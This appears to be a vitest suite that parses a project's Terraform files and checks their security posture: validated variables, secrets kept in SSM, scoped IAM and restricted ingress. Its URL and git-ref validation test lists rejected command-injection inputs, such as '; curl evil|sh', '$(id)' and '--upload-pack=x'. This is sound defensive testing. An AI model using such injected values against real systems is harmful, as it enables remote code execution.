// Static checks of terraform/: it is parsed (python-hcl2), not applied, as the Terraform registry with the AWS
// provider is out of reach here. Typed, described and validated variables; no ingress beyond SSH and the
// dashboard from the operator; tags everywhere; every output the CLI reads.

import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { OUTPUTS_READ } from '../../cli/aws/deploy.js';
import { checkOperatorCidr } from '../../cli/aws/settings.js';
import { parameterName, PLACEHOLDER } from '../../cli/aws/ssm.js';
import { SECRET_NAMES } from '../../config/secrets.js';
import { loadConfig } from '../../config/load.js';
import { layout } from '../../cli/layout.js';
import { fromRoot } from '../../config/paths.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

let tf: Json;

beforeAll(() => {
  const python = layout(loadConfig({ env: {} })).spark.python;
  const res = spawnSync(python, [fromRoot('test', 'aws', 'hcl2json.py'), fromRoot('terraform')], { encoding: 'utf8' });
  if (res.status !== 0) throw new Error(`parsing terraform/ failed (run stockctl setup first): ${res.stderr}`);
  tf = JSON.parse(res.stdout) as Json;
});

const resources = (type: string): [string, Json][] => Object.entries((tf.resource?.[type] ?? {}) as Json);

describe('terraform/', () => {
  it('pins Terraform and the AWS provider (versions.tf)', () => {
    expect(tf.terraform.required_version).toMatch(/^>= 1\.\d+/);
    expect(tf.terraform.required_providers[0].aws).toEqual({ source: 'hashicorp/aws', version: expect.stringMatching(/^~> 5\.\d+$/) });
  });

  it('types and describes every variable, and validates those a user sets', () => {
    for (const [name, v] of Object.entries(tf.variable as Json)) {
      expect(v.type, name).toBeTruthy();
      expect(String(v.description ?? ''), name).toMatch(/\w{4,}/);
    }
    for (const name of ['name', 'region', 'operator_cidr', 'key_pair_name', 'stack_instance_type', 'kafka_brokers', 'spark_workers', 'root_volume_size_gb', 'repository_url', 'repository_ref', 'kafka_cluster_id']) {
      expect(tf.variable[name].validation?.[0]?.condition, name).toBeTruthy();
    }
  });

  /** The regular expression inside a validation's can(regex("…", var.x)), as RE2 reads the HCL string. */
  const validationRegex = (name: string): RegExp => {
    const condition = String(tf.variable[name].validation[0].condition);
    const literal = new RegExp(`regex\\("(.*?)", var\\.${name}\\)`).exec(condition)?.[1] as string;
    return new RegExp(literal.replaceAll('\\\\', '\\'));
  };

  it('takes as operator_cidr one host or a network of at most 256 addresses, as the CLI does', () => {
    const re = validationRegex('operator_cidr');
    const condition = String(tf.variable.operator_cidr.validation[0].condition);
    const accepts = (cidr: string) => re.test(cidr) && !(condition.includes('!startswith(var.operator_cidr, "0.")') && cidr.startsWith('0.'));
    for (const ok of ['203.0.113.7/32', '198.51.100.0/24', '10.1.2.0/28']) {
      expect(accepts(ok), ok).toBe(true);
      expect(() => checkOperatorCidr(ok), ok).not.toThrow();
    }
    for (const bad of ['0.0.0.0/0', '0.0.0.0/1', '128.0.0.0/1', '10.0.0.0/8', '203.0.113.0/23', '0.0.0.0/32', '203.0.113.7', '203.0.113.7/33', '300.1.1.1/32', '::/0']) {
      expect(accepts(bad), bad).toBe(false);
      expect(() => checkOperatorCidr(bad), bad).toThrow();
    }
  });

  it('takes a repository URL and ref only of the characters git needs, which cloud-init quotes as one word each', () => {
    const url = validationRegex('repository_url');
    const ref = validationRegex('repository_ref');
    expect(url.test('https://github.com/you/stockctl.git') && url.test('git@github.com:you/stockctl.git')).toBe(true);
    for (const bad of ['https://x.example/a.git; curl evil|sh', "https://x.example/a'b", 'https://x.example/$(id)', 'file:///etc']) expect(url.test(bad), bad).toBe(false);
    expect(ref.test('main') && ref.test('v1.2.3') && ref.test('feature/x')).toBe(true);
    for (const bad of ['--upload-pack=x', 'main$(id)', "a'b", 'a b']) expect(ref.test(bad), bad).toBe(false);
    const init = readFileSync(fromRoot('terraform', 'cloud-init.yaml.tftpl'), 'utf8');
    expect(init).toContain("git clone -- '${repository_url}' stockctl");
    expect(init).toContain("git checkout '${repository_ref}'");
  });

  it('keeps the secrets in SSM SecureStrings that Terraform creates with a placeholder and never sees', () => {
    const [[name, param]] = resources('aws_ssm_parameter') as [[string, Json]];
    expect(name).toBe('secret');
    expect(param.type).toBe('SecureString');
    expect(param.value).toBe(PLACEHOLDER);
    expect(param.lifecycle[0].ignore_changes).toEqual(['value']);
    expect(param.name).toBe('${local.secret_prefix}/${each.key}');
    expect(tf.locals.secret_prefix).toBe('/stockctl/${var.name}');
    expect(parameterName('${var.name}', 'kafka_client')).toBe('/stockctl/${var.name}/kafka_client');
    expect(tf.locals.secret_names).toEqual([...SECRET_NAMES]);
    // No variable carries a secret: nothing sensitive goes through tfvars, the plan or the state.
    for (const [v, body] of Object.entries(tf.variable as Json)) {
      expect(v, v).not.toMatch(/password|secret|token|key$/i);
      expect(body.sensitive, v).toBeUndefined();
    }
  });

  it('lets the instances read their own deployment\'s secrets and nothing else, through an instance role', () => {
    const assume = tf.data.aws_iam_policy_document.assume_by_ec2.statement[0];
    expect(assume.actions).toEqual(['sts:AssumeRole']);
    expect(assume.principals[0]).toEqual({ type: 'Service', identifiers: ['ec2.amazonaws.com'] });
    const [read, decrypt] = tf.data.aws_iam_policy_document.read_secrets.statement;
    expect(read.actions).toEqual(['ssm:GetParameter', 'ssm:GetParameters']);
    expect(read.resources).toBe('${[for p in aws_ssm_parameter.secret : p.arn]}');
    expect(decrypt.actions).toEqual(['kms:Decrypt']);
    expect(decrypt.condition[0]).toEqual({ test: 'StringEquals', variable: 'kms:ViaService', values: ['ssm.${var.region}.amazonaws.com'] });
    expect(resources('aws_iam_role_policy')[0]?.[1].role).toBe('${aws_iam_role.node.id}');
    for (const [n, i] of resources('aws_instance')) expect(i.iam_instance_profile, n).toBe('${aws_iam_instance_profile.node.name}');
  });

  it('configures every node to fetch the secrets, then run Kafka with SCRAM, PostgreSQL with TLS and Spark authenticated', () => {
    const init = readFileSync(fromRoot('terraform', 'cloud-init.yaml.tftpl'), 'utf8');
    const yaml = init.slice(init.indexOf('cat > config/aws-node.yaml <<YAML'), init.indexOf('      YAML\n'));
    expect(yaml).toMatch(/^ {8}auth: scram$/m);
    expect(yaml).toMatch(/^ {8}tls: "on"$/m);
    expect(yaml).toMatch(/^ {8}authenticate: "true"$/m);
    expect(yaml).toMatch(/^ {8}name: \$\{name\}$/m);
    const pull = init.indexOf('main.js --config config/aws-node.yaml secrets pull');
    expect(pull).toBeGreaterThan(init.indexOf('YAML\n      #'));
    for (const start of ['main.js setup', 'up --skip-setup', 'cluster join']) expect(init.indexOf(start), start).toBeGreaterThan(pull);
    expect(tf.locals.node_setup).toMatchObject({ name: '${var.name}', region: '${var.region}' });
  });

  it('admits SSH and the dashboard from the operator only, and opens Kafka and PostgreSQL to no one', () => {
    const ingress = resources('aws_vpc_security_group_ingress_rule');
    expect(ingress.length).toBeGreaterThan(0);
    for (const [name, rule] of ingress) {
      if (rule.referenced_security_group_id) {
        expect(rule.referenced_security_group_id, name).toBe('${aws_security_group.stack.id}');
        continue;
      }
      expect(rule.cidr_ipv4, name).toBe('${var.operator_cidr}');
      expect(rule.cidr_ipv6, name).toBeUndefined();
      expect([22, '${var.dashboard_port}'], name).toContain(rule.from_port);
      expect(rule.to_port, name).toBe(rule.from_port);
    }
    expect(ingress.find(([n]) => n === 'dashboard')?.[1].count).toBe('${var.enable_dashboard ? 1 : 0}');
    expect(readFileSync(fromRoot('terraform', 'main.tf'), 'utf8')).not.toMatch(/cidr_ipv4\s*=\s*"0\.0\.0\.0\/0"[\s\S]*?ip_protocol[\s\S]*?from_port/);
  });

  it('tags every resource that takes tags, and the provider tags the rest', () => {
    expect(tf.provider.aws.default_tags[0].tags).toBe('${local.tags}');
    for (const type of ['aws_instance', 'aws_security_group', 'aws_vpc_security_group_ingress_rule', 'aws_vpc_security_group_egress_rule', 'aws_ssm_parameter', 'aws_iam_role', 'aws_iam_instance_profile']) {
      for (const [name, r] of resources(type)) expect(r.tags, `${type}.${name}`).toBeTruthy();
    }
    expect(tf.locals.tags).toContain('"stockctl:deployment" = var.name');
  });

  it('runs the newest Ubuntu LTS on gp3, encrypted, with IMDSv2, and the cloud-init that installs stockctl', () => {
    const ami = tf.data.aws_ami.ubuntu;
    expect(ami.owners).toEqual(['099720109477']);
    expect(ami.filter[0].values[0]).toMatch(/^ubuntu\/images\/hvm-ssd-gp3\/ubuntu-noble-24\.04-amd64-server-\*$/);
    for (const [name, i] of resources('aws_instance')) {
      expect(i.ami, name).toBe('${data.aws_ami.ubuntu.id}');
      expect(i.root_block_device[0].volume_type, name).toBe('gp3');
      expect(i.root_block_device[0].encrypted, name).toBe(true);
      expect(i.metadata_options[0].http_tokens, name).toBe('required');
      expect(i.user_data, name).toContain('cloud-init.yaml.tftpl');
    }
    const init = readFileSync(fromRoot('terraform', 'cloud-init.yaml.tftpl'), 'utf8');
    for (const step of ['npm ci', 'main.js setup', 'up --skip-setup', 'up --skip-setup --only kafka', 'cluster join', 'dashboard --host 0.0.0.0 --port ${dashboard_port}']) expect(init).toContain(step);
  });

  it('scales out by variables: more brokers with replication, Spark workers with a master', () => {
    expect(resources('aws_instance').find(([n]) => n === 'kafka')?.[1].count).toBe('${var.kafka_brokers - 1}');
    expect(resources('aws_instance').find(([n]) => n === 'spark_worker')?.[1].count).toBe('${var.spark_workers}');
    expect(tf.locals.replication_factor).toBe('${min(var.kafka_brokers, 3)}');
  });

  it('has every output the CLI reads, described', () => {
    for (const name of OUTPUTS_READ) {
      expect(tf.output[name], name).toBeDefined();
      expect(String(tf.output[name].description ?? ''), name).toMatch(/\w{4,}/);
    }
  });
});
